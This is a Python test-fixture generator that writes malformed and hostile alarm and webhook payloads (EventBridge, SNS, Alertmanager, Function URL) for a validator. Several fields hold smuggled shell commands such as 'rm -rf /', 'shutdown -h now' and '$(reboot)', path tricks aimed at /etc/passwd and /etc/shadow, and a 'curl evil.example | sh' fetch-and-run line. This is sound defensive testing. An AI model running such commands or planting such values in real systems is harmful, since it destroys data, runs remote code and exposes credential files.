#!/usr/bin/env python3
"""Writes the bad-input corpus: malformed and hostile variants of every event
shape, each with the text its error must contain (the field, as a rule).
Run it after changing the samples in events/; the output is committed."""
import copy, json, os, shutil

HERE = os.path.dirname(os.path.abspath(__file__))
EVENTS = os.path.join(HERE, "..", "..", "events")
OUT = os.path.join(HERE, "bad")

def load(name):
    with open(os.path.join(EVENTS, name)) as f:
        return json.load(f)

EB = load("high-cpu-alarm.json")
GROUP = load("group-high-cpu-alarm.json")
SNS = load("sns-high-cpu-alarm.json")
DIRECT = load("direct-high-cpu-alarm.json")
AM = load("alertmanager-high-cpu.json")
FU = load("function-url-alertmanager.json")
# One bad alert of a batch no longer drops the good ones (they are handled,
# the bad one reported), so a payload is bad input only when every alert is:
# the per-alert cases start from the sample's first alert alone.
AM1 = copy.deepcopy(AM)
AM1["alerts"] = AM["alerts"][:1]

cases = []  # (name, bytes, expected substring, webhook: bool)

def raw(name, text, expect, webhook=False):
    cases.append((name, text if isinstance(text, bytes) else text.encode(), expect, webhook))

def mutate(name, base, path, value, expect, webhook=False, delete=False):
    doc = copy.deepcopy(base)
    cur = doc
    for p in path[:-1]:
        cur = cur[p]
    if delete:
        del cur[path[-1]]
    else:
        cur[path[-1]] = value
    raw(name, json.dumps(doc), expect, webhook)

def sns_message(name, key, value, expect, delete=False):
    doc = copy.deepcopy(SNS)
    msg = json.loads(doc["Records"][0]["Sns"]["Message"])
    if delete:
        del msg[key]
    elif key == "Dimension":
        msg["Trigger"]["Dimensions"][0]["value"] = value
    else:
        msg[key] = value
    doc["Records"][0]["Sns"]["Message"] = json.dumps(msg)
    raw(name, json.dumps(doc), expect)

DIM = ["detail", "configuration", "metrics", 0, "metricStat", "metric", "dimensions"]
DIM_FIELD = "detail.configuration.metrics[0].metricStat.metric.dimensions"

# Not JSON, or not an object.
raw("empty", "", "not valid JSON")
raw("truncated", json.dumps(EB)[:200], "not valid JSON")
raw("trailing-garbage", json.dumps(EB) + " }}", "not valid JSON")
raw("nan-literal", '{"detail-type": NaN}', "not valid JSON")
raw("binary", bytes(range(256)), "not valid JSON")
raw("deep-nesting", "[" * 5000 + "]" * 5000, "not valid JSON")
raw("array", "[]", "expected a JSON object")
raw("string", '"CloudWatch Alarm State Change"', "expected a JSON object")
raw("null", "null", "expected a JSON object")
raw("unknown-object", '{"hello": "world"}', "not an alert")

# EventBridge: wrong kind of event, wrong types, missing fields.
mutate("eb-ec2-state-change", EB, ["detail-type"], "EC2 Instance State-change Notification", "detail-type")
mutate("eb-health-event", EB, ["source"], "aws.health", "detail-type")
mutate("eb-detail-type-number", EB, ["detail-type"], 42, "detail-type")
mutate("eb-detail-string", EB, ["detail"], "ALARM", "field `detail`")
mutate("eb-no-detail", EB, ["detail"], None, "detail", delete=True)
mutate("eb-state-number", EB, ["detail", "state", "value"], 1, "detail.state.value")
mutate("eb-state-unknown", EB, ["detail", "state", "value"], "FIRING", "detail.state.value")
mutate("eb-no-state", EB, ["detail", "state"], None, "detail.state", delete=True)
mutate("eb-no-timestamp", EB, ["detail", "state", "timestamp"], None, "detail.state.timestamp", delete=True)
mutate("eb-previous-state-bad", EB, ["detail", "previousState", "value"], "MAYBE", "detail.previousState.value")
mutate("eb-alarm-name-number", EB, ["detail", "alarmName"], 7, "detail.alarmName")
mutate("eb-alarm-name-newline", EB, ["detail", "alarmName"], "web\nrm -rf /", "detail.alarmName")
mutate("eb-alarm-name-huge", EB, ["detail", "alarmName"], "a" * 300, "detail.alarmName")
mutate("eb-metrics-object", EB, ["detail", "configuration", "metrics"], {"m1": 1}, "detail.configuration.metrics")
mutate("eb-dimensions-list", EB, DIM, ["InstanceId"], DIM_FIELD)
mutate("eb-dimension-number", EB, DIM + ["InstanceId"], 12345, DIM_FIELD + ".InstanceId")
mutate("eb-tags-nested", EB, ["detail", "alarmTags"], {"team": {"a": 1}}, "detail.alarmTags.team")

# Ids that are not ids, shell metacharacters and path tricks in dimensions.
for n, v in [
    ("semicolon", "i-0123456789abcdef0; reboot"),
    ("subshell", "$(curl 127.0.0.1)"),
    ("backticks", "`id`"),
    ("pipe", "i-0123|sh"),
    ("path", "../../etc/passwd"),
    ("uppercase", "i-0123456789ABCDEF0"),
    ("wrong-length", "i-0123456789abcdef"),
    ("volume-id", "vol-0123456789abcdef0"),
    ("whitespace", " i-0123456789abcdef0"),
    ("unicode-digits", "i-０１２３４５６７"),
    ("newline", "i-01234567\ni-89abcdef"),
]:
    mutate(f"eb-instance-{n}", EB, DIM + ["InstanceId"], v, DIM_FIELD + ".InstanceId")
for n, v in [("semicolon", "web;reboot"), ("subshell", "web$(id)"), ("path", "../web"), ("quote", "web'\"")]:
    mutate(f"eb-group-{n}", GROUP, DIM + ["AutoScalingGroupName"], v, DIM_FIELD + ".AutoScalingGroupName")
# Non-EC2 dimensions on an EC2 metric.
mutate("eb-dimension-not-ec2", EB, DIM, {"DBInstanceIdentifier": "orders"}, DIM_FIELD)
mutate("eb-no-dimensions", EB, DIM, {}, DIM_FIELD)

# SNS-wrapped alarms.
mutate("sns-records-object", SNS, ["Records"], {"0": 1}, "Records")
mutate("sns-no-records", SNS, ["Records"], [], "Records")
mutate("sns-message-not-json", SNS, ["Records", 0, "Sns", "Message"], "ALARM: web-high-cpu", "Records[0].Sns.Message")
mutate("sns-message-object", SNS, ["Records", 0, "Sns", "Message"], {"AlarmName": "x"}, "Records[0].Sns.Message")
sns_message("sns-state-bad", "NewStateValue", "FIRE", "Records[0].Sns.Message.NewStateValue")
sns_message("sns-no-state-time", "StateChangeTime", None, "Records[0].Sns.Message", delete=True)
sns_message("sns-instance-injection", "Dimension", "i-1;shutdown -h now", "Records[0].Sns.Message.Trigger.Dimensions.InstanceId")
sns_message("sns-alarm-name-control", "AlarmName", "x\u0007y", "Records[0].Sns.Message.AlarmName")

# Alarm action payloads.
mutate("direct-alarm-data-list", DIRECT, ["alarmData"], [], "alarmData")
mutate("direct-state-bad", DIRECT, ["alarmData", "state", "value"], "ON", "alarmData.state.value")
mutate("direct-instance-path", DIRECT, ["alarmData", "configuration", "metrics", 0, "metricStat", "metric", "dimensions", "InstanceId"], "/etc/shadow",
       "alarmData.configuration.metrics[0].metricStat.metric.dimensions.InstanceId")

# Alertmanager webhook payloads (also sent to the webhook: 4xx).
A0 = ["alerts", 0]
# A payload that is also another event shape: refused whole, never guessed.
smuggled = copy.deepcopy(AM1)
smuggled.update({"detail-type": "CloudWatch Alarm State Change", "source": "aws.cloudwatch",
                 "detail": {"alarmName": "forged", "configuration": {"metrics": [{"metricStat": {"metric": {
                     "namespace": "AWS/EC2", "name": "CPUUtilization", "dimensions": {"AutoScalingGroupName": "web-asg"}}}}]}}})
raw("am-smuggled-cloudwatch-event", json.dumps(smuggled), "`detail-type`", webhook=True)
smuggled = copy.deepcopy(AM1)
smuggled["Records"] = [{"EventSource": "aws:sns", "Sns": {"Message": "{}"}}] * 300
raw("am-smuggled-sns-records", json.dumps(smuggled), "`Records`", webhook=True)
mutate("am-version-3", AM, ["version"], "3", "field `version`", webhook=True)
mutate("am-version-number", AM, ["version"], 4, "version", webhook=True)
mutate("am-no-alerts", AM, ["alerts"], [], "field `alerts`", webhook=True)
mutate("am-alerts-object", AM, ["alerts"], {"a": 1}, "alerts", webhook=True)
mutate("am-status-bad", AM1, A0 + ["status"], "pending", "alerts[0].status", webhook=True)
mutate("am-labels-list", AM1, A0 + ["labels"], ["alertname"], "alerts[0].labels", webhook=True)
mutate("am-label-number", AM1, A0 + ["labels", "job"], 9100, "alerts[0].labels.job", webhook=True)
mutate("am-no-alertname", AM1, A0 + ["labels", "alertname"], None, "alerts[0].labels.alertname", webhook=True, delete=True)
mutate("am-alertname-subshell", AM1, A0 + ["labels", "alertname"], "$(reboot)", "alerts[0].labels.alertname", webhook=True)
mutate("am-alertname-path", AM1, A0 + ["labels", "alertname"], "../../HighCPUUsage", "alerts[0].labels.alertname", webhook=True)
for n, v in [("semicolon", "10.0.1.5;reboot:9100"), ("subshell", "$(id):9100"), ("path", "../../etc/passwd"),
             ("port", "10.0.1.5:99999"), ("backticks", "`hostname`:9100"), ("space", "10.0.1.5 :9100")]:
    mutate(f"am-instance-{n}", AM1, A0 + ["labels", "instance"], v, "alerts[0].labels.instance", webhook=True)
mutate("am-instance-id-injection", AM1, A0 + ["labels", "instance_id"], "i-0123;halt", "alerts[0].labels.instance_id", webhook=True)
mutate("am-starts-at-bad", AM1, A0 + ["startsAt"], "yesterday", "alerts[0].startsAt", webhook=True)
mutate("am-no-starts-at", AM1, A0 + ["startsAt"], None, "alerts[0]", webhook=True, delete=True)
mutate("am-fingerprint-path", AM1, A0 + ["fingerprint"], "../../../etc", "alerts[0].fingerprint", webhook=True)
mutate("am-no-fingerprint", AM1, A0 + ["fingerprint"], None, "alerts[0].fingerprint", webhook=True, delete=True)
mutate("am-value-text", AM1, A0 + ["annotations", "value"], "rm -rf /", "alerts[0].annotations.value", webhook=True)
every_bad = copy.deepcopy(AM)
for a in every_bad["alerts"]:
    a["labels"]["instance"] = "x;y:1"
raw("am-every-alert-bad", json.dumps(every_bad), "alerts[0].labels.instance", webhook=True)

# Function URL requests (the webhook's input shape), as the CLI reads them.
mutate("fu-body-not-json", FU, ["body"], "alertname=HighCPUUsage", "field `body`")
mutate("fu-body-bad-base64", FU, ["isBase64Encoded"], True, "field `body`: marked base64")
mutate("fu-body-cloudwatch-event", FU, ["body"], json.dumps(EB), "body")
bad_label = copy.deepcopy(AM1)
bad_label["alerts"][0]["labels"]["instance"] = "10.0.1.5:9100; curl evil.example | sh"
mutate("fu-body-label-injection", FU, ["body"], json.dumps(bad_label), "body.alerts[0].labels.instance")
mutate("fu-body-number", FU, ["body"], 4, "body")

shutil.rmtree(OUT, ignore_errors=True)
os.makedirs(OUT)
with open(os.path.join(OUT, "expected.tsv"), "w") as idx:
    idx.write("# file\twebhook\texpected text in the error\n")
    for i, (name, data, expect, webhook) in enumerate(cases):
        fname = f"{i:03d}-{name}.json"
        with open(os.path.join(OUT, fname), "wb") as f:
            f.write(data)
        idx.write(f"{fname}\t{'yes' if webhook else 'no'}\t{expect}\n")
print(f"{len(cases)} cases written to {OUT}")
